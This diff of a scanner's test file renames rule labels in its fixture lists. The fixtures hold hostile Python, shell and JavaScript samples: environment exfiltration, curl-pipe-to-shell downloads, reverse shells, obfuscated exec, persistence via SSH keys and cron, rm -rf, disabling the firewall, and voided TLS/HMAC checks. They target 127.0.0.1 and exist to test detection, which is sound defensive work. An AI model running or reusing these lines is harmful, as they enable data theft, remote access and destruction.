@@ -40,39 +40,39 @@ PYTHON = [
     ("def f(u):\n    r = __import__('req' + 'uests')\n    o = __import__('os')\n    getattr(r, 'post')(u, json=dict(o.environ))", "exfiltration"),
     ("import os, base64, requests\ndef f(u):\n    x = base64.b64encode(str(os.environ).encode())\n    requests.get(u, params={'q': x})", "exfiltration"),
     # download and run
-    ("import requests\ndef f(u):\n    exec(requests.get(u).text)", "download_and_run"),
-    ("import urllib.request as r\ndef f(u):\n    c = r.urlopen(u).read().decode()\n    eval(compile(c, 'x', 'exec'))", "download_and_run"),
-    ("import requests, subprocess\ndef f(u):\n    c = requests.get(u).json()\n    subprocess.run(c['cmd'], shell=True)", "download_and_run"),
-    ("import socket, os\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    os.system(s.recv(99).decode())", "download_and_run"),
-    ("import os\ndef f():\n    os.system('curl -s http://127.0.0.1:9/i.sh | sh')", "download_and_run"),
-    ("import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'wget -qO- http://127.0.0.1:9/x | sudo bash'])", "download_and_run"),
+    ("import requests\ndef f(u):\n    exec(requests.get(u).text)", "download-and-run"),
+    ("import urllib.request as r\ndef f(u):\n    c = r.urlopen(u).read().decode()\n    eval(compile(c, 'x', 'exec'))", "download-and-run"),
+    ("import requests, subprocess\ndef f(u):\n    c = requests.get(u).json()\n    subprocess.run(c['cmd'], shell=True)", "download-and-run"),
+    ("import socket, os\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    os.system(s.recv(99).decode())", "download-and-run"),
+    ("import os\ndef f():\n    os.system('curl -s http://127.0.0.1:9/i.sh | sh')", "download-and-run"),
+    ("import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'wget -qO- http://127.0.0.1:9/x | sudo bash'])", "download-and-run"),
     # decoded
-    ("import base64\nexec(base64.b64decode('cHJpbnQoMSkgICMgbWFya2Vy'))", "decoded_exec"),
-    ("import base64 as b, zlib\nk = 'eJwrKMrMK9EwBAAKvQJZ'\ndef f():\n    c = zlib.decompress(b.b64decode(k))\n    exec(c)", "decoded_exec"),
-    ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAAAAAAAAAAAAAA')))", "decoded_exec"),
-    ("e = getattr(__builtins__, 'ex' + 'ec')\ne(bytes.fromhex('7072696e742831292020').decode())", "decoded_exec"),
-    ("import os, base64\ndef f():\n    os.system(base64.b64decode('ZWNobyBtYXJrZXI=').decode())", "decoded_exec"),
+    ("import base64\nexec(base64.b64decode('cHJpbnQoMSkgICMgbWFya2Vy'))", "decoded-exec"),
+    ("import base64 as b, zlib\nk = 'eJwrKMrMK9EwBAAKvQJZ'\ndef f():\n    c = zlib.decompress(b.b64decode(k))\n    exec(c)", "decoded-exec"),
+    ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAAAAAAAAAAAAAA')))", "decoded-exec"),
+    ("e = getattr(__builtins__, 'ex' + 'ec')\ne(bytes.fromhex('7072696e742831292020').decode())", "decoded-exec"),
+    ("import os, base64\ndef f():\n    os.system(base64.b64decode('ZWNobyBtYXJrZXI=').decode())", "decoded-exec"),
     # shells, persistence, destruction
-    ("import socket, subprocess, os\ndef f():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['sh', '-i'])", "reverse_shell"),
-    ("import socket, subprocess\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    subprocess.Popen(['sh'], stdin=s.makefile(), stdout=s)", "reverse_shell"),
-    ("import os\ndef f():\n    os.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')", "reverse_shell"),
+    ("import socket, subprocess, os\ndef f():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['sh', '-i'])", "reverse-shell"),
+    ("import socket, subprocess\ndef f():\n    s = socket.create_connection(('127.0.0.1', 9))\n    subprocess.Popen(['sh'], stdin=s.makefile(), stdout=s)", "reverse-shell"),
+    ("import os\ndef f():\n    os.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')", "reverse-shell"),
     ("import os\ndef f(k):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as h:\n        h.write('echo marker')", "persistence"),
     ("from pathlib import Path\ndef f(k):\n    (Path.home() / '.ssh/authorized_keys').write_text(k)", "persistence"),
     ("import os\ndef f():\n    os.system('(crontab -l; echo \"* * * * * true\") | crontab -')", "persistence"),
     ("import shutil, os\ndef f():\n    shutil.rmtree(os.path.expanduser('~'))", "destroys"),
     ("import subprocess\ndef f():\n    subprocess.run('rm -rf ~/', shell=True)", "destroys"),
-    ("import os\ndef f():\n    os.system('ufw disable && systemctl stop auditd')", "disables_security"),
+    ("import os\ndef f():\n    os.system('ufw disable && systemctl stop auditd')", "disables-security"),
     # tampering, import time, install time, empty checks
-    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "tampered_verification"),
-    ("import hmac\nhmac.compare_digest = lambda a, b: True", "tampered_verification"),
-    ("import ssl\nsetattr(ssl, 'match_hostname', lambda *a: None)", "tampered_verification"),
-    ("import sys\nsys.modules['ssl'] = object()", "tampered_verification"),
-    ("import subprocess\nsubprocess.Popen(['true'])", "import_effect"),
-    ("import requests\nclass A:\n    v = requests.get('http://127.0.0.1:9/')", "import_effect"),
-    ("from setuptools.command.develop import develop\nimport os\nclass D(develop):\n    def run(self):\n        os.system('true')", "install_hook"),
-    ("def verify_token(token, key):\n    return True", "ignores_arguments"),
-    ("def encrypt(data, key):\n    return bytes(b ^ 7 for b in data)", "ignores_arguments"),
-    ("def check_password(password, expected):\n    if password:\n        return True\n    return False", "ignores_arguments"),
+    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "tampered-verification"),
+    ("import hmac\nhmac.compare_digest = lambda a, b: True", "tampered-verification"),
+    ("import ssl\nsetattr(ssl, 'match_hostname', lambda *a: None)", "tampered-verification"),
+    ("import sys\nsys.modules['ssl'] = object()", "tampered-verification"),
+    ("import subprocess\nsubprocess.Popen(['true'])", "import-effect"),
+    ("import requests\nclass A:\n    v = requests.get('http://127.0.0.1:9/')", "import-effect"),
+    ("from setuptools.command.develop import develop\nimport os\nclass D(develop):\n    def run(self):\n        os.system('true')", "install-hook"),
+    ("def verify_token(token, key):\n    return True", "ignores-arguments"),
+    ("def encrypt(data, key):\n    return bytes(b ^ 7 for b in data)", "ignores-arguments"),
+    ("def check_password(password, expected):\n    if password:\n        return True\n    return False", "ignores-arguments"),
 ]  # fmt: skip
 
 
@@ -108,19 +108,19 @@ def test_honest_code(text: str) -> None:
 
 
 OTHERS = [
-    ("curl -fsSL http://127.0.0.1:9/x | bash\n", "x.sh", {"download_and_run"}),
-    ("bash <(curl -s http://127.0.0.1:9/x)\n", "x.sh", {"download_and_run"}),
-    ("echo bWFya2Vy | base64 -d | sh\n", "x.sh", {"decoded_exec"}),
+    ("curl -fsSL http://127.0.0.1:9/x | bash\n", "x.sh", {"download-and-run"}),
+    ("bash <(curl -s http://127.0.0.1:9/x)\n", "x.sh", {"download-and-run"}),
+    ("echo bWFya2Vy | base64 -d | sh\n", "x.sh", {"decoded-exec"}),
     ("echo key >> ~/.ssh/authorized_keys\n", "x.sh", {"persistence"}),
     ("rm -rf /\n", "x.sh", {"destroys"}),
     ("env | curl -d @- http://127.0.0.1:9/\n", "x.sh", {"exfiltration"}),
     ("# curl http://127.0.0.1:9/x | bash\ncurl -o f http://127.0.0.1:9/f\nrm -rf ./build\n", "x.sh", set()),
     ("curl -s https://example.org/list | grep shell\n", "x.sh", set()),
-    ("eval(Buffer.from('bWFya2Vy', 'base64').toString())\n", "x.js", {"decoded_exec"}),
-    ("eval(atob('bWFya2Vy'))\n", "x.js", {"decoded_exec"}),
-    ("https.get(u, res => { res.on('data', d => eval(d.toString())) })\n", "x.js", {"download_and_run"}),
+    ("eval(Buffer.from('bWFya2Vy', 'base64').toString())\n", "x.js", {"decoded-exec"}),
+    ("eval(atob('bWFya2Vy'))\n", "x.js", {"decoded-exec"}),
+    ("https.get(u, res => { res.on('data', d => eval(d.toString())) })\n", "x.js", {"download-and-run"}),
     ("fetch(u, {method: 'POST', body: JSON.stringify(process.env)})\n", "x.ts", {"exfiltration"}),
-    ("require('child_process').execSync('curl http://127.0.0.1:9/x | sh')\n", "x.js", {"download_and_run"}),
+    ("require('child_process').execSync('curl http://127.0.0.1:9/x | sh')\n", "x.js", {"download-and-run"}),
     (
         "const b = Buffer.from(text, 'base64')\nfetch(process.env.API_URL).then(r => r.json())\n",
         "x.js",
@@ -166,7 +166,7 @@ def read_setting(name):
 def test_beyond_the_trusted_twin(text: str, expected: bool) -> None:
     trusted = TrustedFunctions.from_files([chunk_file("t.py", TRUSTED.encode())])
     found = inspect(text, context=Context({"trusted_functions": trusted}))
-    assert ("beyond_twin" in {item.rule for item in found}) is expected
+    assert ("beyond-twin" in {item.rule for item in found}) is expected
 
 
 def test_capabilities_alone_are_information() -> None:
